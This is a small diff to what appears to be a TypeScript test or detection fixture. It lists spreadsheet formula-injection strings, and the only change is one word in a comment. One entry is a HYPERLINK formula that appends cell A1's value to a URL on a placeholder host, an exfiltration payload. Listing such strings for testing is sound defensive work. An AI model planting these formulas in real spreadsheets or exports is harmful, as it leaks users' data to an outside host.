@@ -1,4 +1,4 @@
-/** Texts that a spreadsheet would run. */
+/** Texts that a spreadsheet would execute. */
 export const formulas: readonly string[] = [
   `=zqinj+1`,
   `=HYPERLINK("https://zqinj.invalid/"&A1)`,
